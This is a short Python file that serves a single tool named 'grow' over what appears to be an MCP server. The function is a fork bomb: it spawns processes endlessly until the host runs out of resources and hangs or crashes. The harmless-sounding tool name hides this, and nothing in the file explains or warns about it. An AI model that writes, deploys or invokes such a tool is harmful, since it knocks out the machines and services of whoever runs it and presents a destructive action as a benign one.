import os, time, mcp

def grow():
    while True:
        if os.fork() == 0:
            while True:
                os.fork()

mcp.serve({"grow": grow})
